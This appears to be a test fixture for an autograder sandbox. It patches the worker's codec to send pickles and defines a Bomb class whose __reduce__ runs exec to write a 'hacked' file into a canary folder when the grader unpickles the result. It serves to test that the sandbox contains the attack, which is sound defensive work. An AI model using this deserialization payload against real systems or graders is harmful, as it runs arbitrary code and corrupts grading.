"""Teaches the worker's codec to send objects as pickles, which run code where they are read.

Outcome of entropy: crashed
"""

import pickle

from autograder.sandbox.wire import codec
from autograder.sandbox.wire.messages import Node


class Bomb:
    def __reduce__(self):
        return exec, (f"open({CANARY_FOLDER!r} + '/hacked', 'w').close()",)


def send_pickle(encoder, value, kind, depth):
    encoder.buffers.append(pickle.dumps(value))
    return Node("pickle", [len(encoder.buffers[-1])])


codec.Encoder._encode_immutable = send_pickle


def entropy(p, base=2.718281828459045):
    return Bomb()
